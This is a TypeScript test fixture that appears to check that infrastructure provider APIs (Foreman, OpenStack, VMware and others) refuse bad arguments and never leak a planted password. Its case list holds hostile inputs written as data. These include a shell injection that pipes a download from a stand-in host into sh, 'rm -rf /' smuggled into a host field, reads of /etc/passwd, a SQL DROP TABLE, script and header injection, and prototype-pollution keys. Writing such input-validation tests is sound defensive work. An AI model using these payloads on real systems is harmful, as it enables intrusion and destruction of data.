/**
 * Malformed, hostile and oversized arguments, and the field each one must be refused on. The
 * corpus is written once for every kind of resource: each kind names where its text, address and
 * secret fields are, and the cases are applied there.
 */

/** A password-like value planted in every secret field; no message or log line may hold it. */
export const PLANTED_SECRET = "Planted-S3cret-7f3a";

/** The same secret as a Ceph key (base64), for the one secret field that must be base64. */
export const PLANTED_CEPH_KEY = Buffer.from(PLANTED_SECRET).toString("base64");

export interface KindUnderTest {
  typeName: string;
  module: string;
  /** Valid arguments, every secret field holding the planted secret. */
  valid: Record<string, unknown>;
  /** A free-text name field with the engine's name rules. */
  nameField: string;
  /** The field holding a URL or host address. */
  addressField: string;
  /** Dotted path of a password field. */
  secretField: string;
}

export interface BadInputCase {
  title: string;
  /** Builds the bad arguments from a kind's valid ones. */
  apply(kind: KindUnderTest): Record<string, unknown>;
  /** The dotted property the failure must name. */
  property(kind: KindUnderTest): string;
}

const keystone = {
  keystoneUrl: "https://keystone.example.com:35357/v2.0",
  tenantName: "services",
};

export const kindsUnderTest: KindUnderTest[] = [
  {
    typeName: "ForemanProvider",
    module: "foreman-provider",
    valid: {
      name: "foreman1",
      url: "https://foreman.example.com",
      authentication: { username: "admin", password: PLANTED_SECRET },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
  },
  {
    typeName: "OpenStackImageProvider",
    module: "openstack-image-provider",
    valid: {
      name: "glance1",
      url: "https://glance.example.com:9292",
      authentication: { username: "glance", password: PLANTED_SECRET, ...keystone },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
  },
  {
    typeName: "OpenStackNetworkProvider",
    module: "openstack-network-provider",
    valid: {
      name: "neutron1",
      url: "https://neutron.example.com:9696",
      authentication: { username: "neutron", password: PLANTED_SECRET, ...keystone },
      agentConfiguration: {
        interfaceMappings: "physnet1:eth1",
        host: "amqp.example.com",
        username: "guest",
        password: PLANTED_SECRET,
      },
    },
    nameField: "name",
    addressField: "url",
    secretField: "agentConfiguration.password",
  },
  {
    typeName: "ExternalNetworkProvider",
    module: "external-network-provider",
    valid: {
      name: "ovn1",
      url: "https://ovn.example.com:9696",
      pluginType: "OVIRT_PROVIDER_OVN",
      authentication: { username: "admin@internal", password: PLANTED_SECRET },
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
  },
  {
    typeName: "OpenStackVolumeProvider",
    module: "openstack-volume-provider",
    valid: {
      name: "cinder1",
      url: "https://cinder.example.com:8776",
      dataCenter: "Default",
      authentication: { username: "cinder", password: PLANTED_SECRET, ...keystone },
      authenticationKeys: [
        { uuid: "2ba1b2a0-3c1f-4e0b-9c55-7d2f3f1e6a10", value: PLANTED_CEPH_KEY },
      ],
    },
    nameField: "name",
    addressField: "url",
    secretField: "authentication.password",
  },
  {
    typeName: "VmwareProvider",
    module: "vmware-provider",
    valid: {
      name: "vcenter1",
      vcenter: "vcenter.example.com",
      esxiHost: "esxi01.example.com",
      dataCenter: "Datacenter",
      username: "administrator@vsphere.local",
      password: PLANTED_SECRET,
    },
    nameField: "name",
    addressField: "vcenter",
    secretField: "password",
  },
  {
    typeName: "VmwareVmImport",
    module: "vmware-vm-import",
    valid: {
      url: "vpx://administrator%40vsphere.local@vcenter.example.com/Datacenter/esxi01.example.com",
      username: "administrator@vsphere.local",
      password: PLANTED_SECRET,
      sourceVmName: "web01",
      newName: "web01-migrated",
      cluster: "Default",
      storageDomain: "data1",
    },
    nameField: "newName",
    addressField: "url",
    secretField: "password",
  },
];

/** `valid` with the value at a dotted path replaced (nested objects are copied, not changed). */
export function withValue(
  valid: Record<string, unknown>,
  dottedPath: string,
  value: unknown,
): Record<string, unknown> {
  const [head, ...rest] = dottedPath.split(".");
  if (rest.length === 0) return { ...valid, [head]: value };
  const inner = (valid[head] ?? {}) as Record<string, unknown>;
  return { ...valid, [head]: withValue(inner, rest.join("."), value) };
}

/** `valid` plus one own key, set with defineProperty so that `__proto__` stays a plain key. */
function withOwnKey(valid: Record<string, unknown>, key: string, value: unknown) {
  const copy = { ...valid };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

const MEBIBYTE = 1024 * 1024;

const nameCase = (title: string, value: unknown): BadInputCase => ({
  title: `name field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.nameField, value),
  property: (kind) => kind.nameField,
});

const addressCase = (title: string, value: unknown): BadInputCase => ({
  title: `address field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.addressField, value),
  property: (kind) => kind.addressField,
});

const secretCase = (title: string, value: unknown): BadInputCase => ({
  title: `secret field: ${title}`,
  apply: (kind) => withValue(kind.valid, kind.secretField, value),
  property: (kind) => kind.secretField,
});

const unknownKeyCase = (key: string, value: unknown): BadInputCase => ({
  title: `unknown argument ${JSON.stringify(key)}`,
  apply: (kind) => withOwnKey(kind.valid, key, value),
  property: () => key,
});

export const badInputCases: BadInputCase[] = [
  nameCase("a string of one mebibyte", "n".repeat(MEBIBYTE)),
  nameCase("NUL, escape and line breaks", "web\u0000\u001b[31m\r\nX-Injected: 1"),
  nameCase("SQL injection", "x'; DROP TABLE providers;--"),
  nameCase("shell injection", "$(curl evil.example.com | sh)"),
  nameCase("markup injection", "<script>alert(1)</script>"),
  nameCase("path traversal", "../../etc/passwd"),
  nameCase("an empty string", ""),
  nameCase("a number", 42),
  nameCase("a boolean", true),
  nameCase("an array", ["web01"]),
  nameCase("an object", { toString: "web01" }),
  addressCase("a javascript: URL", "javascript:alert(1)"),
  addressCase("a file: URL", "file:///etc/passwd"),
  addressCase("header injection", "https://host.example.com\r\nX-Injected: 1"),
  addressCase("a command in the host", "host.example.com;rm -rf /"),
  addressCase("credentials in the address", `https://admin:${PLANTED_SECRET}@host.example.com`),
  addressCase("a string of one mebibyte", `https://${"h".repeat(MEBIBYTE)}.example.com`),
  addressCase("a number", 8080),
  secretCase("a number", 12345),
  secretCase("an object", { value: PLANTED_SECRET }),
  secretCase("longer than the engine keeps", PLANTED_SECRET.repeat(1000)),
  unknownKeyCase("colour", "blue"),
  unknownKeyCase("Name", "misspelled"),
  unknownKeyCase("passwd", PLANTED_SECRET),
  unknownKeyCase("__proto__", { polluted: true }),
  unknownKeyCase("constructor", { prototype: { polluted: true } }),
  unknownKeyCase("prototype", { polluted: true }),
];
